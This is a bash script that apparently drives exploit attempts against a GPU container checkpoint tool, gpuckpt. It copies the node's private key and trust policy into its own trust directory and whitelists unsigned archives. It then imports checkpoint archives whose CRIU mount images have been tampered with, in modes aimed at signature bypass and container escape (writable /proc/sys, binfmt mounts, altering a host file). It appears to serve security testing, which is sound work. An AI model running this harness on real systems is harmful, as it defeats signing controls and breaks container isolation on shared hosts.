#!/bin/bash
# attack30g: the checked path: `gpuckpt import` of the unsigned archives with edited CRIU mount images, under an
# unsigned exception archive:/var/tmp/attack30g/ in a trust directory of our own (GPUCKPT_TRUST_DIR: this node's
# key and policy copied; /etc/gpuckpt/trust.toml untouched; the shim trusts gpuckpt import's record of the archive).
# Then the same proofs as run.sh (PROOF_ONLY=1 run.sh reuses its case arms).
set -u
D=/var/tmp/attack30g; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; rm -rf $D/trust; mkdir -m 700 $D/trust; cp /etc/gpuckpt/node.key /etc/gpuckpt/trust.toml $D/trust/
GPUCKPT_TRUST_DIR=$D/trust gpuckpt trust allow-unsigned archive:$D/ --note "attack30g review" >/dev/null
for mode in ${@:-nosig procsysrw binfmtmnt}; do
  echo "=== gpuckpt import $mode ($(date -u +%T))"
  $P $H/edit.py src.tar.zst imp-$mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
  podman rm -f -t 0 attack30g-src >/dev/null 2>&1
  if [ $mode = cgprop ]; then
    printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n' > $D/victim; chmod 600 $D/victim
    echo "host victim before: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"
  fi
  GPUCKPT_TRUST_DIR=$D/trust timeout 200 gpuckpt import $D/imp-$mode.tar.zst 2>&1 | cut -c1-500; echo "gpuckpt import rc=${PIPESTATUS[0]}"
  podman ps -a --filter name=attack30g-src --format '{{.Names}} {{.Status}}'
  PROOF_ONLY=1 bash $H/run.sh $mode
done
podman rm -f -t 0 attack30g-src >/dev/null 2>&1
rm -rf $D/trust
